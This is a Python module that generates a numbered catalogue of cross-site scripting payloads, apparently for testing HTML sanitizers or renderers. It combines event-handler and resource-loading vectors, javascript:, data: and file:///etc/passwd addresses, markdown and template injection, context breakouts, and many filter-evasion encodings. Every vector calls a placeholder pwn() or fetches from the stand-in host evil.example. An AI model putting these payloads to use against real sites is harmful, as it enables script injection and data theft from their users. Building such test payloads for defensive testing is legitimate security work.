"""A grammar of attacks on a page: a vector does harm, a context is what it breaks out of, a disguise is how it is written.

All that runs calls `pwn()`, and all that asks asks for a file at `evil.example`.
"""

from __future__ import annotations

import html
import re
from collections.abc import Callable
from itertools import product
from random import Random
from urllib.parse import quote

from ..results import chance

_GO = "pwn()"
_NET = "//evil.example/x"
# Elements that report by themselves: nobody has to click.
_EVENTS = {
    "onerror": ("img src=x", "video src=x", "audio src=x", "object data=x", "input type=image src=x", "video><source src=x", "image src=x"),
    "onload": ("svg", "body", "iframe", "style", f"link rel=stylesheet href={_NET}"),
    "onfocus": ("input autofocus", "select autofocus", "textarea autofocus", "a href=# autofocus", "p tabindex=1 autofocus"),
    "ontoggle": ("details open",),
    "onbegin": ("svg><animate attributeName=x dur=1s", "svg><set attributeName=x"),
    "onanimationstart": ("p style=animation:x",),
    "onmouseover": ("p", "ruby", "meter"),
    "onclick": ("p", "math href=#", "summary"),
}  # fmt: skip
# Attributes with an address: of what is loaded at once, and of what is followed.
_LOADS = (
    "iframe src", "embed src", "object data", "img src", "script src", "link rel=stylesheet href", "link rel=prefetch href", "base href",
    "img srcset", "video poster", "table background", "svg><image href", "svg><use href", "svg><feImage href", "audio src", "track src",
    "input type=image src", "picture><source srcset", "frame src", "applet code", "bgsound src", "body background", "portal src",
)  # fmt: skip
_FOLLOWS = (
    "a href",
    "area href",
    "form action",
    "button formaction",
    "svg><a xlink:href",
    "math href",
    "a ping=//evil.example/x href",
)
_STYLES = (
    "<style>@import url({net})</style>", "<style>*{{background:url({net})}}</style>", '<p style="background:url({net})">甲</p>',
    '<p style="width:expression({go})">甲</p>', "<style>@font-face{{font-family:x;src:url({net})}}*{{font-family:x}}</style>",
)  # fmt: skip
_OTHERS = (
    "<script>{go}</script>", "<script type=module>{go}</script>", "<svg><script>{go}</script></svg>", "${{{go}}}", "{{{{{go}}}}}",
    "<iframe srcdoc='<script>parent.{go}</script>'>", "<meta http-equiv=refresh content='0;url={net}'>",
    "<meta http-equiv=refresh content='0;url=javascript:{go}'>",
    "{{{{ 4011 * 10001 }}}}", "{{% for x in range(9) %}}Q{{% endfor %}}", "<template><script>{go}</script></template>",
    "[甲](javascript:{go})", "![甲](javascript:{go})", "![甲]({net})", "<javascript:{go}>", "[甲][乙]\n\n[乙]: javascript:{go}",
    '[甲](x "\\" onclick={go} x=\\"")', '![" onerror="{go}](x.png)', "[^甲]: javascript:{go}", "[甲](data:text/html,<script>{go}</script>)",
)  # fmt: skip
# What is around the words where they are shown, and ends there.
_BREAKS = (
    "", '">', "'>", "`>", " ", "-->", "]]>", "*/", "</title>", "</style>", "</textarea>", "</script>", "</a>",
    "</p></div></main>", "\\", "\\u0022>",
)  # fmt: skip
_CONTAINERS = (
    "title", "textarea", "style", "xmp", "noscript", "iframe", "template", "svg", "math", "select", "table", "plaintext", "svg><style",
    "math><mtext><mglyph><style", "svg><title", "noembed", "!--", "![CDATA[", "?x", "listing", "option",
)  # fmt: skip
_SCHEMES = (" javascript", "\x01javascript", "JaVaScRiPt", "vbscript", "feed:javascript")
_COLONS = ("script\t:", "scr\nipt:", "script&Tab;:", "%73cript:", "script&#58;")
Disguise = Callable[[str, Random], str]


def _with_signs(signs: str) -> Disguise:
    """One of these signs somewhere inside of a name of an element."""

    def disguise(words: str, random: Random) -> str:
        sign = random.choice(signs)
        return re.sub(r"<(\w)", lambda found: f"<{found[1]}{sign}", words)

    return disguise


def _mixed_case(words: str, random: Random) -> str:
    return (
        "".join(random.choice((sign.upper(), sign.lower())) for sign in words)
        .replace("PWN", "pwn")
        .replace("Pwn", "pwn")
    )


def _foreign_case(words: str, random: Random) -> str:
    """Letters whose other case is in ASCII."""
    return (
        words.replace("scr", "ſcr").replace("ript", "rıpt")
        if random.random() < 0.5
        else words.replace("k", "\u212a").replace("i", "İ")
    )


_DISGUISES: tuple[Disguise, ...] = (
    lambda words, random: words,
    lambda words, random: words,
    lambda words, random: re.sub(r"(?<=\w) (?=\w)", random.choice(("/", "\n", "\t", "\f", "\u3000", "\u00a0")), words),
    lambda words, random: html.escape(words),
    lambda words, random: html.escape(html.escape(words)),
    lambda words, random: "".join(f"&#{ord(sign)};" if sign in "<>\"'()" else sign for sign in words),
    lambda words, random: "".join(f"&#x{ord(sign):x}" if sign in "<>:" else sign for sign in words),
    lambda words, random: words.replace("<", "&LT").replace(">", "&GT;").replace(":", "&colon;"),
    lambda words, random: quote(words),
    lambda words, random: words.translate({ord(sign): ord(sign) + 0xFEE0 for sign in "<>\"':/"}),
    lambda words, random: words.replace("script:", random.choice(_COLONS)),
    lambda words, random: words.replace("javascript", random.choice(_SCHEMES)),
    lambda words, random: words.encode("utf-7").decode(),
    lambda words, random: words.replace("<", "\\u003c").replace(">", "\\x3e"),
    lambda words, random: words.rstrip(">").removesuffix("</script"),
    lambda words, random: words.replace("script", "scr<script>ipt").replace("on", "ononxx"),
    lambda words, random: words.replace(">", "\n>").replace("=", " = "),
    lambda words, random: re.sub(r"=(\S+?)>", r'="\1">', words),
    _mixed_case,
    _foreign_case,
    _with_signs("\0\u200b\u00ad\ufeff\u2028\u0301"),
)  # fmt: skip


def _vectors() -> list[str]:
    addresses = (f"javascript:{_GO}", _NET, f"data:text/html,<script>parent.{_GO}</script>", "file:///etc/passwd")
    return [
        *(f"<{element} {event}={_GO}>" for event, elements in _EVENTS.items() for element in elements),
        *(f"<{load}={address}>" for load, address in product(_LOADS, addresses[:2])),
        *(f"<{follow}={address}>甲</{follow.split()[0]}>" for follow, address in product(_FOLLOWS, addresses)),
        *(one.format(go=_GO, net=f"http:{_NET}") for one in (*_STYLES, *_OTHERS)),
    ]


_VECTORS = _vectors()


def payload(number: int) -> str:
    """The payload of this number, the same one every time. Neighbours differ in their vectors."""
    random = chance("xss", number)
    vector = _VECTORS[number * 7 % len(_VECTORS)]
    if random.random() < 0.25:
        container = random.choice(_CONTAINERS)
        vector = (
            f"<{container}>{vector}" if random.random() < 0.5 else f'<{container}><p title="</{container}>{vector}">'
        )
    return random.choice(_DISGUISES)(random.choice(_BREAKS) + vector, random)
